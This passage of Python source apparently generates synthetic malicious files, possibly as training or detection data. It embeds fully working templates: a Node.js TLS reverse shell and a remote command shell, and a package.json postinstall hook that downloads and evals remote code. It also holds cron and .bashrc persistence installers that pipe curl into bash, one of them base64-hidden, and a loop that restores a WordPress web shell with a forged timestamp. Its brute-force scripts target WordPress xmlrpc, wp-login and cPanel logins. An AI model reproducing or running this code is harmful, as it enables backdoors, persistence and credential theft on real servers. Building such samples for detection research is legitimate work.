    if v == 0:
        code = T("""const tls = require('tls'), { spawn } = require('child_process');
(function c() {
  const s = tls.connect({ host: '@H@', port: @P@, rejectUnauthorized: false }, () => {
    const sh = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);
    s.pipe(sh.stdin); sh.stdout.pipe(s); sh.stderr.pipe(s);
  });
  s.on('error', () => setTimeout(c, 30000));
  s.on('close', () => setTimeout(c, 30000));
})();
""", H=h, P=p)
    elif v == 1:
        code = T("""{
  "name": "@N@",
  "version": "1.0.@V@",
  "scripts": {
    "postinstall": "node -e \\"require('https').get('https://@D@/i.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\\""
  }
}
""", N=rw(r, 6) + "-utils", V=r.randint(1, 9), D=dom(r))
        return [F(code, "node_modules/%s/package.json" % rw(r, 6), "json", "script")]
    else:
        code = T("""const net = require('net');
const cp = require('child_process');
const vm = require('vm');
function go() {
  const c = net.createConnection(@P@, '@H@');
  let buf = '';
  c.on('data', (d) => {
    buf += d;
    let i;
    while ((i = buf.indexOf('\\n')) >= 0) {
      const line = buf.slice(0, i); buf = buf.slice(i + 1);
      if (line.startsWith('js:')) { try { c.write(String(vm.runInThisContext(line.slice(3))) + '\\n'); } catch (e) { c.write(e + '\\n'); } }
      else cp.exec(line, (e, o, er) => c.write(o + er));
    }
  });
  c.on('close', () => setTimeout(go, 20000));
  c.on('error', () => {});
}
go();
""", H=h, P=p)
    return [F(code, r.choice((".npm/_cacache/%s.js" % hx(r, 8), "nodevenv/%s.js" % rw(r, 4), "tmp/%s.js" % rw(r, 5))), "js", "script")]


def cron_reinstaller(r, v):
    url = "http://%s/%s" % (dom(r), rw(r, 4))
    if v == 0:
        code = T("""#!/bin/bash
D="$HOME/.config/.@D@"
mkdir -p "$D"
fetch() { curl -fsSL "$1" -o "$2" 2>/dev/null || wget -q "$1" -O "$2" 2>/dev/null || python3 -c "import urllib.request,sys;urllib.request.urlretrieve(sys.argv[1],sys.argv[2])" "$1" "$2"; }
[ -s "$D/run" ] || fetch "@U@/run" "$D/run"
chmod 700 "$D/run"
(crontab -l 2>/dev/null | grep -v "$D"; echo "*/10 * * * * $D/run >/dev/null 2>&1") | crontab -
grep -q "$D" "$HOME/.bashrc" 2>/dev/null || echo "( $D/run >/dev/null 2>&1 & )" >> "$HOME/.bashrc"
pgrep -f "$D/run" >/dev/null || nohup "$D/run" >/dev/null 2>&1 &
""", D=rw(r, 5), U=url)
        return [F(code, r.choice(("tmp/.%s.sh" % rw(r, 3), ".cache/%s" % rw(r, 5))), "sh", "script")]
    if v == 1:
        line = "*/15 * * * * (curl -fsS %s/c.sh || wget -qO- %s/c.sh) | bash >/dev/null 2>&1\n" % (url, url)
        code = "MAILTO=\"\"\n" + "0 3 * * * /usr/local/bin/php $HOME/public_html/wp-cron.php >/dev/null 2>&1\n" + line
        enc = b64(line.strip())
        code += "@reboot echo %s | base64 -d | bash\n" % enc
        return [F(code, r.choice(("crontab.txt", ".cron/%s" % rw(r, 4), "var/spool/%s" % rw(r, 5))), "crontab", "persistence")]
    code = T("""#!/bin/sh
# restores the helper if the admin removes it
T=$HOME/public_html/wp-includes/@N@.php
while true; do
  if [ ! -f "$T" ] || ! grep -q '@M@' "$T"; then
    (curl -s @U@/p.txt || wget -qO- @U@/p.txt) > "$T"
    chmod 444 "$T"
    touch -r "$HOME/public_html/wp-includes/version.php" "$T"
  fi
  sleep 300
done
""", N=r.choice(("class-wp-pop3", "sodium-compat", "wp-loader")), M=hx(r, 8), U=url)
    return [F(code, r.choice((".local/bin/%s" % rw(r, 4), "tmp/%s.sh" % rw(r, 5))), "sh", "script")]


def xmlrpc_guesser(r, v):
    if v == 0:
        code = T("""#!/usr/bin/env python3
import sys, threading, urllib.request
from queue import Queue
WORDS = [w.strip() for w in open(sys.argv[2], encoding='latin-1')]
q = Queue()


def call(site, user, pws):
    calls = ''.join('<value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string></value></member>'
                    '<member><name>params</name><value><array><data><value><string>%s</string></value><value><string>%s</string></value></data></array></value></member></struct></value>' % (user, p) for p in pws)
    body = '<?xml version="1.0"?><methodCall><methodName>system.multicall</methodName><params><param><value><array><data>%s</data></array></value></param></params></methodCall>' % calls
    r = urllib.request.urlopen(urllib.request.Request(site.rstrip('/') + '/xmlrpc.php', body.encode(), {'Content-Type': 'text/xml'}), timeout=20).read().decode(errors='ignore')
    return r


def w():
    while True:
        site = q.get()
        try:
            u = 'admin'
            for i in range(0, len(WORDS), 50):
                r = call(site, u, WORDS[i:i + 50])
                if 'isAdmin' in r:
                    open('good.txt', 'a').write(site + ' ' + u + '\\n')
                    break
        except Exception:
            pass
        q.task_done()


for _ in range(50):
    threading.Thread(target=w, daemon=True).start()
for s in open(sys.argv[1]):
    q.put(s.strip())
q.join()
""")
        return [F(code, r.choice(("%s.py" % rw(r, 4), ".cache/%s.py" % rw(r, 4))), "python", "script")]
    if v == 1:
        code = T("""<?php
set_time_limit(0);
$sites = file($argv[1] ?? 'sites.txt', FILE_IGNORE_NEW_LINES);
$pw = file($argv[2] ?? 'pw.txt', FILE_IGNORE_NEW_LINES);
$mh = curl_multi_init();
foreach ($sites as $s) {
    foreach (array_slice($pw, 0, 200) as $p) {
        $c = curl_init(rtrim($s, '/') . '/wp-login.php');
        curl_setopt_array($c, [CURLOPT_POST => 1, CURLOPT_POSTFIELDS => http_build_query(['log' => 'admin', 'pwd' => $p, 'wp-submit' => 'Log In']),
            CURLOPT_RETURNTRANSFER => 1, CURLOPT_HEADER => 1, CURLOPT_TIMEOUT => 15, CURLOPT_PRIVATE => "$s|$p"]);
        curl_multi_add_handle($mh, $c);
    }
    do { curl_multi_exec($mh, $run); curl_multi_select($mh); } while ($run > 0);
    while ($i = curl_multi_info_read($mh)) {
        $h = $i['handle'];
        if (strpos(curl_multi_getcontent($h), 'wordpress_logged_in') !== false) { file_put_contents('ok.txt', curl_getinfo($h, CURLINFO_PRIVATE) . "\\n", FILE_APPEND); }
        curl_multi_remove_handle($mh, $h);
    }
}
""")
        return [F("#!/usr/bin/php\n" + code, r.choice(("tmp/%s.php" % rw(r, 4), ".x/%s" % rw(r, 5))), "php", "script")]
    code = T("""#!/bin/bash
while read -r site; do
  for p in $(head -n 300 "${2:-p.txt}"); do
    c=$(curl -sk -m 10 -o /dev/null -w '%{http_code}' -u "admin:$p" "$site/cpanel" )
    r=$(curl -sk -m 10 -c - -d "user=admin&pass=$p" "$site:2083/login/?login_only=1" | grep -c security_token)
    if [ "$r" -gt 0 ]; then echo "$site admin $p" >> .found; break; fi
  done
done < "${1:-targets.txt}"
""")
    return [F(code, r.choice(("tmp/%s.sh" % rw(r, 4), ".cache/%s" % rw(r, 3))), "sh", "script")]


BOT_TECHS = (
    ("python-asyncio-http-poll", asyncio_poll, 3),
    ("dns-txt-c2", dns_txt_c2, 3),
    ("php-cli-daemon", php_cli_daemon, 3),
    ("irc-bot-variants", perl_irc, 3),
    ("node-tls-back-postinstall", node_tls_back, 3),
    ("cron-reinstaller", cron_reinstaller, 3),
    ("login-guesser-xmlrpc", xmlrpc_guesser, 3),
)
